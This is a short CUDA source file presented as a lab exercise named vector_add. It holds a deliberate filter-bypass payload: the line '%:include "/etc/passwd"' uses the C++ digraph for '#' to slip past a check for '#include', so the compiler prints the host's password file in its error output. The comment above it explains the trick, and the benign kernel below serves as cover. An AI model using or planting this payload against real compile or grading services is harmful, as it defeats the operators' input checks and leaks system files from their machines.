// cudalab-exercise: vector_add
// Smuggles an include past a check for "#include": %: is the C++ digraph of #, so the
// preprocessor reads the next line as #include and prints the file in its diagnostics.
%:include "/etc/passwd"

extern "C" __global__ void vector_add(const float* __restrict__ a,
                                      const float* __restrict__ b,
                                      float* __restrict__ c, int n)
{
    int i = blockIdx.x * blockDim.x + threadIdx.x;
    if (i < n) c[i] = a[i] + b[i];
}
